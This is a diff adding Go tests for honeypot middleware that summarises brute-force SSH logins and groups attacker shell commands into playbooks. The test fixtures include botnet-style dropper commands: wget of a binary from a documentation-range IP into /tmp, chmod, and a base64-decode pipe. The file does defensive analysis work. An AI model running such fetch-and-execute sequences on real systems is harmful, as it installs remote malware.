@@ -0,0 +1,94 @@
+package middleware
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestBuildCredentialReport(t *testing.T) {
+	at := time.Unix(1600000000, 0)
+	login := func(ip string, username string, password string, failed bool, minutes int) Event {
+		event := Event{Time: at.Add(time.Duration(minutes) * time.Minute), Pot: "ssh", Kind: EventLogin, SourceIP: ip, Username: username, Password: password}
+		if failed {
+			event.Fields = map[string]string{"result": "failed"}
+		}
+		return event
+	}
+
+	history := []Event{login("198.51.100.1", "root", "root", true, -600)}
+	events := []Event{
+		login("203.0.113.5", "root", "root", true, 0),
+		login("203.0.113.5", "root", "admin", true, 1),
+		login("203.0.113.5", "admin", "admin", false, 2),
+		login("198.51.100.1", "root", "root", true, 3),
+		{Time: at, Pot: "ssh", Kind: EventCommand, Command: "uname -a"},
+	}
+
+	report := BuildCredentialReport(events, history, at, time.Time{}, 2)
+	if report.Attempts != 4 || report.Successes != 1 || report.Sources != 2 || report.Pairs != 3 || report.NewPairs != 2 {
+		t.Errorf("credential summary not match\nexpected: 4 attempts, 1 success, 2 sources, 3 pairs, 2 new, actual: %+v", report)
+	}
+	if len(report.TopPairs) != 2 || report.TopPairs[0].Key != "root:root" || report.TopPairs[0].Count != 2 {
+		t.Errorf("top pairs not match\nexpected: root:root first, actual: %+v", report.TopPairs)
+	}
+	if len(report.Usernames) != 2 || report.Usernames[0].Key != "root" || report.Usernames[0].Count != 3 {
+		t.Errorf("top usernames not match\nexpected: root first, actual: %+v", report.Usernames)
+	}
+	if len(report.FirstSeen) != 2 || report.FirstSeen[0].Key != "admin:admin" || report.FirstSeen[1].Key != "root:admin" {
+		t.Errorf("new pairs not match\nexpected: admin:admin and root:admin, actual: %+v", report.FirstSeen)
+	}
+
+	source := report.SourceList[0]
+	if source.IP != "203.0.113.5" || source.Attempts != 3 || source.Successes != 1 || strings.Join(source.Passwords, ",") != "root,admin" {
+		t.Errorf("password list not match\nexpected: root,admin from 203.0.113.5, actual: %+v", source)
+	}
+}
+
+func TestBuildCommandReport(t *testing.T) {
+	at := time.Unix(1600000000, 0)
+	session := func(pot string, ip string, id string, commands ...string) []Event {
+		var events []Event
+		for index, command := range commands {
+			events = append(events, Event{
+				Time: at.Add(time.Duration(index) * time.Second), Pot: pot, Kind: EventCommand, SourceIP: ip, Command: command,
+				Fields: map[string]string{"session": id},
+			})
+		}
+		return events
+	}
+
+	var events []Event
+	events = append(events, session("ssh", "203.0.113.5", "1", "cd /tmp", "wget http://203.0.113.5/bins/x86 -O x", "chmod 777 x")...)
+	events = append(events, session("telnet", "198.51.100.7", "7", "cd /tmp", "wget http://198.51.100.7/bins/x86 -O x", "chmod 755 x")...)
+	events = append(events, session("ssh", "203.0.113.9", "2", "uname -a")...)
+
+	report := BuildCommandReport(events, at, time.Time{}, 0)
+	if report.Commands != 7 || report.Sessions != 3 || len(report.Playbooks) != 2 {
+		t.Fatalf("command summary not match\nexpected: 7 commands, 3 sessions, 2 playbooks, actual: %+v", report)
+	}
+
+	playbook := report.Playbooks[0]
+	expected := "cd /tmp; wget <url> -O x; chmod <n> x"
+	if strings.Join(playbook.Commands, "; ") != expected || playbook.Sessions != 2 || strings.Join(playbook.Pots, ",") != "ssh,telnet" {
+		t.Errorf("playbook not match\nexpected: %s in 2 sessions, actual: %+v", expected, playbook)
+	}
+	if strings.Join(playbook.URLs, ",") != "http://203.0.113.5/bins/x86,http://198.51.100.7/bins/x86" || playbook.Example[1] != "wget http://203.0.113.5/bins/x86 -O x" {
+		t.Errorf("playbook urls not match\nactual: %v %v", playbook.URLs, playbook.Example)
+	}
+	if report.Top[0].Key != "cd /tmp" || report.Top[0].Count != 2 {
+		t.Errorf("top commands not match\nexpected: cd /tmp first, actual: %+v", report.Top)
+	}
+
+	normalized := map[string]string{
+		"echo 'aGVsbG8gd29ybGQgZnJvbSBhIGJvdG5ldCBwYXlsb2Fk1' | base64 -d": "echo '<base64>' | base64 -d",
+		"cat /proc/cpuinfo | grep name | wc -l":                            "cat /proc/cpuinfo | grep name | wc -l",
+		"echo  d41d8cd98f00b204e9800998ecf8427e > /tmp/.id":                "echo <hex> > /tmp/.id",
+		"ping 10.0.0.1:8080": "ping <ip>",
+	}
+	for command, expected := range normalized {
+		if actual := NormalizeCommand(command); actual != expected {
+			t.Errorf("normalized command not match\nexpected: %s, actual: %s", expected, actual)
+		}
+	}
+}